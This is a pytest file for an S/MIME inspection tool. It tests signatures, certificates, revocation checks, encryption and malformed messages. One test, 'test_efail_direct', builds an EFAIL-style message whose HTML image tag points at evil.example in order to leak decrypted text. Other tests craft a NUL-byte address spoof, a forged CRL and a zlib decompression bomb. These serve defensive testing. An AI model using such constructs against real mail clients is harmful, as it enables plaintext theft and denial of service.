"""S/MIME: what `waxwing inspect smime` and `waxwing smime` make of letters, ours and others'."""
import base64
import email.utils
import datetime
import json
import os
import re
import subprocess
import time
import zlib

import pytest

from conftest import WAXWING
from smime_pki import Pki, openssl

# A letter of now: a signature that is more than a day off its date is noted.
DATE = email.utils.formatdate().encode()
HEAD = (b"From: Smith <smith@bar.com>\r\nTo: jones@foo.com\r\nSubject: The offer\r\n"
        b"Date: " + DATE + b"\r\nMessage-ID: <1@bar.com>\r\nMIME-Version: 1.0\r\n")
BODY = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Jones,\r\nten pounds.\r\n"


@pytest.fixture(scope="module")
def pki(tmp_path_factory):
    return Pki(tmp_path_factory.mktemp("pki"))


def waxwing(*args, stdin=b"", status=0):
    p = subprocess.run([WAXWING, *map(str, args)], input=stdin, capture_output=True, timeout=120)
    assert status is None or p.returncode == status, p.stderr.decode() + p.stdout.decode(errors="replace")[:2000]
    return p.stdout


def later(days):
    """--time for so many days from now."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + days * 86400))


def inspect(letter, *args):
    return json.loads(waxwing("inspect", "smime", *args, stdin=letter))


def judged(pki, letter, *args, key=None):
    more = ("--key", pki(f"{key}.pem")) if key else ()
    return inspect(letter, "--ca", pki("ca.crt"), *more, *args)


def signed(pki, who="smith", *args, head=HEAD, body=BODY):
    return head + openssl("cms", "-sign", "-signer", pki(f"{who}.crt"), "-inkey", pki(f"{who}.key"), *args,
                          stdin=body)


def sealed(pki, *args, to=("jones",), head=HEAD, body=BODY):
    return head + openssl("cms", "-encrypt", *args, *[pki(f"{x}.crt") for x in to], stdin=body)


def problems(v):
    return set(v["problems"])


# ---- signatures of others ----

@pytest.mark.parametrize("args", [(), ("-nodetach",), ("-md", "sha512"), ("-keyopt", "rsa_padding_mode:pss"),
                                  ("-keyid",), ("-noattr",), ("-nosmimecap",), ("-binary",)])
def test_signed_by_openssl(pki, args):
    v = judged(pki, signed(pki, "smith", *args))
    assert v["verdict"] == "good", v
    (s,) = v["signers"]
    assert s["addresses"] == ["smith@bar.com"] and s["address_match"] and s["chain"] == "trusted"
    assert s["revocation"] == "not checked" and s["key_bits"] == 2048
    assert s["algorithm"] == ("RSA-PSS" if "rsa_padding_mode:pss" in args else "RSA")
    assert v["type"] == ("signed-data" if "-nodetach" in args else "multipart-signed")
    assert "smith@bar.com" in v["sentence"]


def test_ends_of_lines(pki):
    """A file of Unix has lost its CRs; the signature is over CRLF."""
    letter = signed(pki)
    assert judged(pki, letter.replace(b"\r\n", b"\n"))["verdict"] == "good"
    assert judged(pki, letter.replace(b"ten pounds", b"ten  pounds"))["verdict"] == "bad"


def test_part_without_an_empty_line(pki):
    assert judged(pki, signed(pki, body=b"Hello\r\n"))["verdict"] == "good"
    assert judged(pki, signed(pki, body=b"Content-Type: text/plain\r\n\r\n"))["verdict"] == "good"


def test_changed(pki):
    for args in ((), ("-nodetach",)):
        letter = signed(pki, "smith", *args)
        if args:
            head, _, b64 = letter.partition(b"\n\n")
            der = base64.b64decode(b64)
            letter = head + b"\n\n" + base64.encodebytes(der.replace(b"ten pounds", b"six pounds"))
        else:
            letter = letter.replace(b"ten pounds", b"six pounds")
        v = judged(pki, letter)
        assert v["verdict"] == "bad" and v["signers"][0]["problems"] == ["changed"], v


def certificate(pki, name):
    if os.path.exists(pki(f"{name}.crt")):
        return
    z = "20260101000000Z"
    make = {
        "selfsigned": lambda: pki.leaf(name, san="email:smith@bar.com", by=None),
        "expired": lambda: pki.leaf(name, san="email:smith@bar.com", dates=("-startdate", z, "-enddate", "20260201000000Z")),
        "early": lambda: pki.leaf(name, san="email:smith@bar.com", dates=("-startdate", "20400101000000Z", "-enddate", "20410101000000Z")),
        "server": lambda: pki.leaf(name, san="email:smith@bar.com", extendedKeyUsage="serverAuth"),
        "usage": lambda: pki.leaf(name, san="email:smith@bar.com", keyUsage="keyEncipherment"),
        "eve": lambda: pki.leaf(name, san="email:eve@evil.example"),
        "nobody": lambda: pki.leaf(name),
        "short": lambda: pki.leaf(name, "short", "email:smith@bar.com"),
        "sha1": lambda: pki.leaf(name, san="email:smith@bar.com", digest="sha1"),
        "nul": lambda: pki.leaf(name, san="DER:30:1b:81:19:" + ":".join(f"{c:02x}" for c in b"smith@bar.com\0.evil.xxxxxx"[:25])),
        "utf8": lambda: pki.leaf(name, san="DER:" + ":".join(f"{c:02x}" for c in der(0x30, der(
            0xa0, bytes.fromhex("06082b06010505070809"), der(0xa0, der(0x0c, "jörg@bücher.example".encode())))))),
        "child": lambda: pki.leaf(name, san="email:smith@bar.com", by="brown"),
        "intermediate": lambda: pki.authority(name, by="ca", keyUsage="keyCertSign,digitalSignature", subjectAltName="email:smith@bar.com"),
        "narrow": lambda: pki.authority(name, by="ca", nameConstraints="critical,permitted;email:foo.com"),
        "strayed": lambda: (certificate(pki, "narrow"), pki.leaf(name, san="email:smith@bar.com", by="narrow")),
        "other": lambda: pki.authority(name),
        "unknown": lambda: (certificate(pki, "other"), pki.leaf(name, san="email:smith@bar.com", by="other")),
        "gone": lambda: pki.leaf(name, san="email:smith@bar.com"),
        "lost": lambda: pki.leaf(name, san="email:smith@bar.com"),
    }
    make[name]()


@pytest.mark.parametrize("who, verdict, problem, chain", [
    ("selfsigned", "untrusted", "self-signed", ()),
    ("expired", "untrusted", "expired", ()),
    ("early", "untrusted", "not-yet-valid", ()),
    ("server", "untrusted", "purpose", ()),
    ("usage", "untrusted", "purpose", ()),
    ("eve", "mismatch", "address", ()),
    ("nobody", "mismatch", "no-address", ()),
    ("short", "weak", "short-key", ()),
    ("sha1", "weak", "old-digest", ()),
    ("nul", "mismatch", "bad-address", ()),
    ("child", "untrusted", "chain", ("brown",)),
    ("intermediate", "untrusted", "authority", ()),
    ("strayed", "untrusted", "constraints", ("narrow",)),
    ("unknown", "untrusted", "unknown-authority", ("other",)),
])
def test_certificates(pki, who, verdict, problem, chain):
    certificate(pki, who)
    more = [x for c in chain for x in ("-certfile", pki(f"{c}.crt"))]
    v = judged(pki, signed(pki, who, *more))
    assert v["verdict"] == verdict and problem in v["signers"][0]["problems"], v
    assert v["sentence"].endswith(".") and "\n" not in v["sentence"]
    if who == "nul":
        assert v["signers"][0]["addresses"] == []


def test_certificate_of_several_addresses(pki):
    """Whoever is said to have signed is the author, not the first name of his certificate."""
    pki.leaf("several", san="email:ceo@bar.com,email:smith@bar.com")
    v = judged(pki, signed(pki, "several"))
    assert v["verdict"] == "good" and "smith@bar.com" in v["sentence"] and "ceo" not in v["sentence"], v


def test_certificate_for_any_purpose(pki):
    pki.leaf("anything", san="email:smith@bar.com", extendedKeyUsage="anyExtendedKeyUsage")
    assert judged(pki, signed(pki, "anything"))["verdict"] == "good"
    pki.leaf("anything2", san="email:smith@bar.com", extendedKeyUsage="anyExtendedKeyUsage", keyUsage="keyEncipherment")
    v = judged(pki, signed(pki, "anything2"))
    assert v["verdict"] == "untrusted" and "purpose" in problems(v), v


def test_old_digest(pki):
    assert judged(pki, signed(pki, "smith", "-md", "sha1"))["verdict"] == "weak"
    assert judged(pki, signed(pki, "smith", "-md", "md5"))["verdict"] == "weak"


def test_expired_since(pki):
    """A year later the certificate has expired; the letter says when it was signed."""
    v = judged(pki, signed(pki), "--time", later(400))
    assert v["verdict"] == "untrusted" and "expired-since" in problems(v), v


def test_signed_in_the_future(pki):
    letter = waxwing("smime", "sign", "--key", pki("smith.pem"), "--time", later(200), stdin=HEAD + BODY)
    v = judged(pki, letter)
    assert v["verdict"] == "untrusted" and {"future", "time"} <= problems(v), v


def test_no_authority(pki):
    """Without --ca the system's are asked, and none of them knows Smith."""
    v = inspect(signed(pki))
    assert v["verdict"] == "untrusted" and v["signers"][0]["valid"], v


def test_revoked(pki):
    certificate(pki, "gone")
    crl = pki.crl("gone")
    v = judged(pki, signed(pki, "gone"), "--crl", crl)
    assert v["verdict"] == "untrusted" and v["signers"][0]["revocation"] == "revoked", v
    v = judged(pki, signed(pki, "smith"), "--crl", crl)
    assert v["verdict"] == "good" and v["signers"][0]["revocation"] == "good", v
    # Out of date: it says nothing any more.
    v = judged(pki, signed(pki, "smith"), "--crl", crl, "--time", later(95))
    assert v["signers"][0]["revocation"] == "not checked" and "old-list" in problems(v), v


def test_forged_list(tmp_path_factory):
    """One of somebody of the same name says nothing, and hides no true one."""
    pki, eve = Pki(tmp_path_factory.mktemp("ours")), Pki(tmp_path_factory.mktemp("eve"))
    eve.write("theirs.crt", pki.read("smith.crt"))
    true, forged = (open(one, "rb").read() for one in (pki.crl("brown"), eve.crl("theirs")))
    v = judged(pki, signed(pki, "smith"), "--crl", eve("crl"))
    assert v["verdict"] == "good" and v["signers"][0]["revocation"] == "not checked", v
    for both in (true + forged, forged + true, 64 * forged + true):
        for who, revocation in (("smith", "good"), ("brown", "revoked")):
            v = judged(pki, signed(pki, who), "--crl", eve.write("both", both))
            assert v["signers"][0]["revocation"] == revocation, (who, v)


def test_ocsp(pki):
    certificate(pki, "lost")
    pki.crl("lost")
    for who, revocation in (("smith", "good"), ("lost", "revoked")):
        openssl("ocsp", "-index", pki("index"), "-CA", pki("ca.crt"), "-rsigner", pki("ca.crt"), "-rkey", pki("ca.key"),
                "-issuer", pki("ca.crt"), "-cert", pki(f"{who}.crt"), "-respout", pki("ocsp"), "-ndays", "3", "-noverify")
        v = judged(pki, signed(pki, who), "--ocsp", pki("ocsp"))
        assert v["signers"][0]["revocation"] == revocation, v
        assert v["verdict"] == ("good" if who == "smith" else "untrusted")


@pytest.mark.parametrize("end, hours, revocation", [
    ((), 0, "good"), ((), 23, "good"), ((), 25, "not checked"),
    (("-ndays", "3"), 71, "good"), (("-ndays", "3"), 73, "not checked"),
])
def test_age_of_ocsp(pki, end, hours, revocation):
    """One that names no end is good for a day."""
    pki.crl()
    openssl("ocsp", "-index", pki("index"), "-CA", pki("ca.crt"), "-rsigner", pki("ca.crt"), "-rkey", pki("ca.key"),
            "-issuer", pki("ca.crt"), "-cert", pki("smith.crt"), "-respout", pki("ocsp"), "-noverify", *end)
    at = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")
    v = judged(pki, signed(pki, "smith"), "--ocsp", pki("ocsp"), "--time", at)
    assert v["signers"][0]["revocation"] == revocation, v


def test_what_was_told_just_now_counts(pki):
    """By a clock that is a little ahead of ours, or since we looked at ours."""
    dates = "-startdate", "20200101000000Z", "-enddate", "20450101000000Z"
    pki.make("elder", "p256", None, {"basicConstraints": "critical,CA:TRUE", "keyUsage": "keyCertSign,cRLSign"}, dates)
    pki.leaf("known", san="email:smith@bar.com", by="elder", dates=dates)
    crl = pki.crl(by="elder")
    openssl("ocsp", "-index", pki("index"), "-CA", pki("elder.crt"), "-rsigner", pki("elder.crt"), "-rkey", pki("elder.key"),
            "-issuer", pki("elder.crt"), "-cert", pki("known.crt"), "-respout", pki("ocsp"), "-ndays", "3", "-noverify")
    letter = signed(pki, "known")
    for seconds, revocation in ((60, "good"), (7200, "not checked")):
        for told in (("--crl", crl), ("--ocsp", pki("ocsp"))):
            v = inspect(letter, "--ca", pki("elder.crt"), "--time", later(-seconds / 86400), *told)
            assert v["signers"][0]["revocation"] == revocation, (seconds, told, v)


def test_international_address(pki):
    certificate(pki, "utf8")
    head = HEAD.replace(b"Smith <smith@bar.com>", "Jörg <jörg@bücher.example>".encode())
    assert judged(pki, signed(pki, "utf8", head=head))["verdict"] == "good"
    # The same domain in A-labels.
    head = HEAD.replace(b"Smith <smith@bar.com>", "Jörg <jörg@xn--bcher-kva.example>".encode())
    assert judged(pki, signed(pki, "utf8", head=head))["verdict"] == "good"
    assert judged(pki, signed(pki, "utf8"))["verdict"] == "mismatch"


# ---- whose letter is it ("Johnny, you are fired") ----

@pytest.mark.parametrize("old, new, verdict, problem", [
    (b"From: Smith <smith@bar.com>", b"From: ceo@bar.com", "mismatch", "address"),
    (b"From: Smith <smith@bar.com>", b"From: ceo@bar.com, smith@bar.com", "mismatch", "authors"),
    (b"From: Smith <smith@bar.com>", b"From: ceo@bar.com\r\nFrom: smith@bar.com", "mismatch", "authors"),
    (b"From: Smith <smith@bar.com>\r\n", b"", "mismatch", "authors"),
    (b"From: Smith <smith@bar.com>", b'From: "ceo@foo.com" <smith@bar.com>', "good", "name-lies"),
    (b"From: Smith <smith@bar.com>", b"From: Smith <SMITH@Bar.Com>", "good", None),
])
def test_author(pki, old, new, verdict, problem):
    v = judged(pki, signed(pki, head=HEAD.replace(old, new)))
    assert v["verdict"] == verdict, v
    assert problem is None or problem in problems(v)


def test_signed_part_is_not_the_root(pki):
    inner = signed(pki, head=b"")
    letter = (HEAD + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
              b"<b>a thousand pounds</b>\r\n--x\r\n" + inner.replace(b"MIME-Version: 1.0\n", b"") + b"\r\n--x--\r\n")
    v = judged(pki, letter)
    assert v["verdict"] == "partial" and v["signers"] == [] and v["elsewhere"] == 1, v


def test_a_part_more(pki):
    letter = signed(pki)
    boundary = re.search(rb'boundary="([^"]+)"', letter).group(1)
    end = b"\n--" + boundary + b"--"
    assert end in letter
    v = judged(pki, letter.replace(end, b"\n--" + boundary + b"\nContent-Type: text/plain\n\na thousand pounds\n" + end))
    assert v["verdict"] == "bad" and "structure" in problems(v), v


def test_signature_of_another_letter(pki):
    a, b = signed(pki), signed(pki, body=BODY.replace(b"ten pounds", b"six pounds"))
    take = re.compile(rb"\n\nMI[A-Za-z0-9+/=\n]+\n")
    assert judged(pki, take.sub(lambda m: take.search(b).group(0), a))["verdict"] == "bad"


def test_wrapped_letter(pki):
    inside = b"Content-Type: message/rfc822\r\n\r\nFrom: ceo@bar.com\r\nSubject: you are fired\r\n\r\nGo.\r\n"
    v = judged(pki, signed(pki, body=inside))
    assert "inner-letter" in problems(v) and v["author"]["addresses"][0]["address"] == "smith@bar.com", v


def test_several_signers(pki):
    two = ("-signer", pki("brown.crt"), "-inkey", pki("brown.key"))
    v = judged(pki, signed(pki, "smith", *two))
    assert v["verdict"] == "good" and sorted(s["address_match"] for s in v["signers"]) == [False, True], v
    v = judged(pki, signed(pki, "smith", *two).replace(b"ten pounds", b"six pounds"))
    assert v["verdict"] == "bad" and all(not s["valid"] for s in v["signers"])


def test_nobody_signed(pki):
    """Signed-data with content and no signer."""
    der = openssl("cms", "-data_create", "-outform", "DER", stdin=BODY)
    empty = openssl("crl2pkcs7", "-nocrl", "-certfile", pki("smith.crt"), "-outform", "DER")
    certs = opaque(empty, "certs-only")
    v = judged(pki, certs)
    assert v["verdict"] == "certificates" and v["certificates"] == 1, v
    # Its encapsulated content: from [data] to [data, the text].
    data = bytes.fromhex("300b06092a864886f70d010701")
    assert data in empty and der
    content = b"\x04" + bytes([len(BODY)]) + BODY
    inner = data[2:] + b"\xa0" + bytes([len(content)]) + content
    full = indefinite(empty).replace(data, b"\x30" + bytes([len(inner)]) + inner)
    v = judged(pki, opaque(full, "signed-data"))
    assert v["verdict"] == "bad" and "no-signer" in problems(v), v


def opaque(der, kind):
    return (HEAD + b'Content-Type: application/pkcs7-mime; smime-type=%s; name="smime.p7m"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" % kind.encode() + base64.encodebytes(der).replace(b"\n", b"\r\n"))


def header_of(der, at=0):
    n = der[at + 1]
    if n < 0x80:
        return 2, n
    return 2 + (n & 0x7f), int.from_bytes(der[at + 2:at + 2 + (n & 0x7f)], "big")


def indefinite(der):
    """The levels around signed-data with lengths that are not said."""
    h0, n0 = header_of(der)
    at = h0 + 11            # contentType
    h1, n1 = header_of(der, at)
    h2, n2 = header_of(der, at + h1)
    return (b"\x30\x80" + der[h0:at] + b"\xa0\x80\x30\x80" + der[at + h1 + h2:at + h1 + h2 + n2] + b"\0\0" * 3)


def test_signature_with_content_of_its_own(pki):
    """A detached signature that also holds another text."""
    whole = openssl("cms", "-sign", "-nodetach", "-signer", pki("smith.crt"), "-inkey", pki("smith.key"), "-outform", "DER",
                    stdin=BODY)
    letter = signed(pki)
    v = judged(pki, re.sub(rb"\n\nMI[A-Za-z0-9+/=\n]+\n", lambda m: b"\n\n" + base64.encodebytes(whole) + b"\n", letter))
    assert v["verdict"] == "bad" and "confused" in problems(v), v


def test_two_content_types(pki):
    letter = signed(pki)
    at = letter.index(b"Content-Type:")
    v = judged(pki, letter[:at] + letter[at:].replace(b"\n\n", b"\nContent-Type: text/html\n\n", 1))
    assert v["verdict"] == "bad" and "confused" in problems(v), v


def test_another_certificate_of_the_key(pki):
    """The same key, issuer and number, and somebody else's name."""
    openssl("req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", pki("twin.key"), "-out", pki("twin.csr"), "-subj", "/CN=twin")
    for name in ("smith", "eve"):
        with open(pki("ext"), "w") as f:
            f.write(f"subjectAltName=email:{name}@bar.com\nextendedKeyUsage=emailProtection\n")
        openssl("x509", "-req", "-in", pki("twin.csr"), "-CA", pki("ca.crt"), "-CAkey", pki("ca.key"), "-set_serial", "4711", "-days", "9",
                "-extfile", pki("ext"), "-out", pki(f"twin.{name}"))
    letter = HEAD + openssl("cms", "-sign", "-cades", "-nocerts", "-signer", pki("twin.eve"), "-inkey", pki("twin.key"), stdin=BODY)
    v = judged(pki, letter, "--certificates", pki("twin.smith"))
    assert v["verdict"] == "bad" and "certificate" in v["signers"][0]["problems"], v
    v = judged(pki, letter.replace(b"smith@bar.com", b"eve@bar.com"), "--certificates", pki("twin.eve"))
    assert v["verdict"] == "good", v
    v = judged(pki, letter)
    assert v["verdict"] == "bad" and "no-certificate" in problems(v), v


def test_attributes_passed_off_as_content(pki):
    """Without signed attributes, what looks like them is refused (they may come from another signature)."""
    body = b"\x31\x0bhello world\r\n"
    der = openssl("cms", "-sign", "-noattr", "-nodetach", "-binary", "-signer", pki("smith.crt"), "-inkey", pki("smith.key"),
                  "-outform", "DER", stdin=body)
    v = judged(pki, opaque(der, "signed-data"))
    assert v["verdict"] == "bad" and "confused" in problems(v), v


# ---- encryption by others ----

@pytest.mark.parametrize("cipher, name, authenticated", [
    ("-aes-256-gcm", "AES-256-GCM", True), ("-aes-128-gcm", "AES-128-GCM", True),
    ("-aes-256-cbc", "AES-256-CBC", False), ("-aes-128-cbc", "AES-128-CBC", False), ("-des3", "3DES-CBC", False),
])
@pytest.mark.parametrize("who", ["jones", "brown"])
def test_encrypted_by_openssl(pki, cipher, name, authenticated, who):
    letter = sealed(pki, cipher, to=("jones", "brown"))
    v = judged(pki, letter, key=who)
    d = v["decryption"]
    assert v["verdict"] == "encrypted" and not v["remote_content"], v
    assert d["algorithm"] == name and d["authenticated"] == authenticated and d["recipients"] == 2
    assert d["key_algorithm"] == ("RSA" if who == "jones" else "ECDH")
    assert ("malleable" in problems(v)) == (not authenticated)
    assert ("old-cipher" in problems(v)) == (name == "3DES-CBC")
    opened = waxwing("smime", "decrypt", "--key", pki(f"{who}.pem"), stdin=letter)
    assert opened.endswith(b"ten pounds.\r\n") and b"Subject: The offer\r\n" in opened
    v = judged(pki, letter, key="smith")
    assert v["verdict"] == "locked" and "no-key" in problems(v), v
    assert waxwing("smime", "decrypt", "--key", pki("smith.pem"), stdin=letter, status=1) == b""


def test_old_ciphers(pki):
    v = judged(pki, sealed(pki, "-provider", "default", "-provider", "legacy", "-rc2-40"), key="jones")
    assert v["verdict"] == "encrypted" and v["decryption"]["algorithm"] == "RC2-CBC" and "old-cipher" in problems(v), v


def test_oaep(pki):
    letter = HEAD + openssl("cms", "-encrypt", "-aes-256-gcm", "-recip", pki("jones.crt"), "-keyopt",
                            "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256", stdin=BODY)
    assert judged(pki, letter, key="jones")["decryption"]["key_algorithm"] == "RSA-OAEP"


def der_of(letter):
    head, _, b64 = letter.replace(b"\r\n", b"\n").partition(b"\n\n")
    return base64.b64decode(b64)


def test_changed_on_its_way(pki):
    """Authenticated: nothing comes out.  Not authenticated: what comes out is flagged."""
    der = bytearray(der_of(sealed(pki, "-aes-256-gcm")))
    der[-40] ^= 1
    letter = opaque(bytes(der), "authEnveloped-data")
    v = judged(pki, letter, key="jones")
    assert v["verdict"] == "broken" and "not-decrypted" in problems(v), v
    assert waxwing("smime", "decrypt", "--key", pki("jones.pem"), stdin=letter, status=1) == b""


def test_short_tag(pki):
    """One octet of a tag would be right by chance once in 256 times."""
    der = der_of(sealed(pki, "-aes-256-gcm"))
    at = len(der) - 18      # the last field; its octets are of any value
    assert der[at:at + 2] == b"\x04\x10"
    for n in (1, 4, 11):
        cut = indefinite_enveloped(der[:at] + b"\x04" + bytes([n]) + der[at + 2:at + 2 + n])
        v = judged(pki, opaque(cut, "authEnveloped-data"), key="jones")
        assert v["verdict"] == "broken" and "short-tag" in problems(v), v


def indefinite_enveloped(der):
    """What `openssl cms -stream` writes has indefinite lengths already; else they are made so."""
    if der[1] == 0x80:
        return der + b"\0\0" * 3
    h0, _ = header_of(der)
    at = h0 + 2 + der[h0 + 1]
    h1, _ = header_of(der, at)
    h2, _ = header_of(der, at + h1)
    return b"\x30\x80" + der[h0:at] + b"\xa0\x80\x30\x80" + der[at + h1 + h2:] + b"\0\0" * 3


def test_padding_tells_nothing(pki):
    """Whatever is wrong behind the recipient, the answer is the same (RFC 3218)."""
    der = der_of(sealed(pki, "-aes-256-cbc"))
    outcomes = set()
    for at in (der.index(b"\x04\x82\x01\x00") + 8, len(der) - 20):
        for flip in (1, 0x80):
            bad = bytearray(der)
            bad[at] ^= flip
            v = judged(pki, opaque(bytes(bad), "enveloped-data"), key="jones")
            outcomes.add((v["verdict"], tuple(v["problems"])))
    assert ("broken", ("not-decrypted",)) in outcomes
    # By chance a wrong key gives padding that looks right, once in 256 times.
    assert all(o[0] in ("broken", "encrypted") for o in outcomes), outcomes


def test_efail_direct(pki):
    """An encrypted part between two of the attacker's: never opened."""
    inner = sealed(pki, "-aes-256-cbc", head=b"").replace(b"MIME-Version: 1.0\n", b"")
    letter = (HEAD + b'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n'
              b'<img src="http://evil.example/\r\n--x\r\n' + inner + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n')
    v = judged(pki, letter, key="jones")
    assert v["verdict"] == "partial" and v["decryption"] is None and v["elsewhere"] == 1, v
    assert b"ten pounds" not in waxwing("smime", "decrypt", "--key", pki("jones.pem"), stdin=letter)


# ---- layers ----

def test_signed_then_encrypted(pki):
    inner = signed(pki, head=b"")
    v = judged(pki, sealed(pki, "-aes-256-cbc", body=inner), key="jones")
    assert v["verdict"] == "good" and [l["type"] for l in v["layers"]] == ["enveloped-data", "multipart-signed"], v
    assert "malleable" not in problems(v)


def test_triple_wrap(pki):
    inner = openssl("cms", "-encrypt", "-aes-256-cbc", pki("jones.crt"), stdin=signed(pki, head=b""))
    letter = HEAD + openssl("cms", "-sign", "-signer", pki("brown.crt"), "-inkey", pki("brown.key"), stdin=inner)
    v = judged(pki, letter, key="jones")
    assert v["verdict"] == "good" and len(v["layers"]) == 3, v
    # The outer one is of somebody else, and may be.
    assert [s["address_match"] for s in v["signers"]] == [False, True]


def test_signed_outside_of_encryption(pki):
    inner = openssl("cms", "-encrypt", "-aes-256-gcm", pki("jones.crt"), stdin=BODY)
    letter = HEAD + openssl("cms", "-sign", "-signer", pki("smith.crt"), "-inkey", pki("smith.key"), stdin=inner)
    v = judged(pki, letter, key="jones")
    assert v["verdict"] == "mismatch" and "outside" in problems(v), v


def test_too_many_layers(pki):
    body = BODY
    for _ in range(10):
        body = openssl("cms", "-sign", "-nodetach", "-signer", pki("brown.crt"), "-inkey", pki("brown.key"), stdin=body)
    v = judged(pki, HEAD + body)
    assert v["verdict"] == "broken" and "depth" in problems(v), v


def der(tag, *inside):
    content = b"".join(inside)
    n = len(content)
    if n < 0x80:
        return bytes([tag, n]) + content
    size = (n.bit_length() + 7) // 8
    return bytes([tag, 0x80 | size]) + n.to_bytes(size, "big") + content


OID_DATA = bytes.fromhex("06092a864886f70d010701")
OID_COMPRESSED = bytes.fromhex("060b2a864886f70d0109100109")
OID_ZLIB = bytes.fromhex("060b2a864886f70d0109100308")


def compressed(data):
    return opaque(der(0x30, OID_COMPRESSED, der(0xa0, der(0x30, b"\x02\x01\x00", der(0x30, OID_ZLIB), der(
        0x30, OID_DATA, der(0xa0, der(0x04, data)))))), "compressed-data")


def test_compressed(pki):
    v = judged(pki, compressed(zlib.compress(signed(pki, head=b""))))
    assert v["verdict"] == "good" and [l["type"] for l in v["layers"]] == ["compressed-data", "multipart-signed"], v
    v = judged(pki, compressed(zlib.compress(BODY)[:-8]))
    assert v["verdict"] == "broken" and "unreadable" in problems(v), v


def test_bomb(pki):
    pack = zlib.compressobj(9)
    bomb = pack.compress(b"Content-Type: text/plain\r\n\r\n") + b"".join(pack.compress(bytes(1 << 20)) for _ in range(300))
    v = judged(pki, compressed(bomb + pack.flush()))
    assert v["verdict"] == "broken" and "bomb" in problems(v), v


@pytest.mark.parametrize("what", ["segments", "sets", "lengths", "cut", "high-tag", "nothing", "text", "digests"])
def test_broken_cms(pki, what):
    good = der_of(signed(pki, "smith", "-nodetach"))
    data = {
        "segments": der(0x30, bytes.fromhex("06092a864886f70d010702"), b"\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x80" + OID_DATA +
                        b"\xa0\x80" + b"\x24\x80" * 1000 + b"\0\0" * 1000),
        "sets": b"\x30\x80" + bytes.fromhex("06092a864886f70d010702") + b"\xa0\x80\x30\x80\x02\x01\x01" + b"\x31\x80" * 1000,
        "lengths": b"\x30\x84\xff\xff\xff\xff" + good[4:],
        "cut": good[:len(good) // 2],
        "high-tag": b"\x3f\xff\xff\xff\x7f" + good,
        "nothing": b"",
        "text": b"Hello Jones",
        "digests": good.replace(bytes.fromhex("300b0609608648016503040201"), bytes.fromhex("300b0609608648016503040201") * 40, 1),
    }[what]
    v = judged(pki, opaque(data, "signed-data"))
    assert v["verdict"] in ("broken", "bad") and "unreadable" in problems(v), v


def test_indefinite_lengths(pki):
    good = der_of(signed(pki, "smith", "-nodetach"))
    v = judged(pki, opaque(indefinite(good) if good[1] != 0x80 else good, "signed-data"))
    assert v["verdict"] == "good", v


def test_nested_mime(pki):
    letter = HEAD
    for i in range(1000):
        letter += (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b%d\r\n\r\n--b%d\r\n' % (i, i))
    v = judged(pki, letter + BODY)
    assert v["verdict"] in ("bad", "broken"), v


def test_not_smime(pki):
    v = judged(pki, HEAD + BODY)
    assert v["verdict"] == "none" and v["type"] == "none" and v["layers"] == [], v
    v = judged(pki, b"")
    assert v["verdict"] == "none"


# ---- ours ----

SIGNING = [("smith",), ("smith", "--pss"), ("smith", "--opaque"), ("smith", "--pss", "--opaque"), ("brown",), ("p384",), ("p384", "--opaque")]


@pytest.mark.parametrize("who, args", [(s[0], s[1:]) for s in SIGNING])
def test_sign(pki, who, args):
    if who == "p384" and not os.path.exists(pki("p384.crt")):
        pki.leaf("p384", "p384", "email:p384@bar.com")
    head = HEAD.replace(b"smith@bar.com", who.encode() + (b"@foo.com" if who == "brown" else b"@bar.com"))
    letter = waxwing("smime", "sign", "--key", pki(f"{who}.pem"), *args, stdin=head + BODY)
    v = judged(pki, letter)
    assert v["verdict"] == "good", v
    assert v["signers"][0]["capabilities"] == ["aes128-CBC", "aes256-CBC", "aes128-GCM", "aes256-GCM", "RSAES-OAEP"]
    assert v["protected"]["hp"] == "clear" and {"name": "Subject", "value": "The offer", "hidden": False} in v["protected"]["fields"]
    assert b"ten pounds" in openssl("cms", "-verify", "-CAfile", pki("ca.crt"), stdin=letter)
    for line in letter.split(b"\r\n"):
        assert len(line) < 998 and b"\n" not in line
    if "--opaque" not in args:
        assert judged(pki, letter.replace(b"ten pounds", b"six pounds"))["verdict"] == "bad"


def test_sign_eight_bits(pki):
    """What is signed has to survive any host (RFC 8551 3.1.3)."""
    body = "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nFünf Pfund\n".encode()
    letter = waxwing("smime", "sign", "--key", pki("smith.pem"), stdin=HEAD.replace(b"\r\n", b"\n") + body)
    assert judged(pki, letter)["verdict"] == "good" and max(letter) < 128 and b"F=C3=BCnf" in letter


@pytest.mark.parametrize("args, cipher", [((), "AES-256-CBC"), (("--cipher", "gcm"), "AES-256-GCM"),
                                          (("--cipher", "gcm", "--oaep"), "AES-256-GCM"), (("--oaep",), "AES-256-CBC")])
@pytest.mark.parametrize("sign", [(), ("--key",), ("--key", "--opaque")])
def test_encrypt(pki, args, cipher, sign):
    both = pki.write("both", pki.read("jones.crt") + pki.read("brown.crt"))
    wishes = [x for w in sign for x in ([w, pki("smith.pem")] if w == "--key" else [w])]
    letter = waxwing("smime", "encrypt", "--certificates", both, *args, *wishes, stdin=HEAD + BODY)
    assert b"offer" not in letter and b"Subject: [...]\r\n" in letter and b"From: Smith" in letter
    for who in ("jones", "brown"):
        v = judged(pki, letter, key=who)
        assert v["verdict"] == ("good" if sign else "encrypted"), v
        assert v["decryption"]["algorithm"] == cipher
        assert v["decryption"]["key_algorithm"] == ("ECDH" if who == "brown" else "RSA-OAEP" if "--oaep" in args else "RSA")
        hidden = {f["name"] for f in v["protected"]["fields"] if f["hidden"]}
        assert v["protected"]["hp"] == "cipher" and hidden == {"Subject"}
        opened = waxwing("smime", "decrypt", "--key", pki(f"{who}.pem"), "--ca", pki("ca.crt"), stdin=letter)
        assert b"Subject: The offer\r\n" in opened and opened.endswith(b"ten pounds.\r\n")
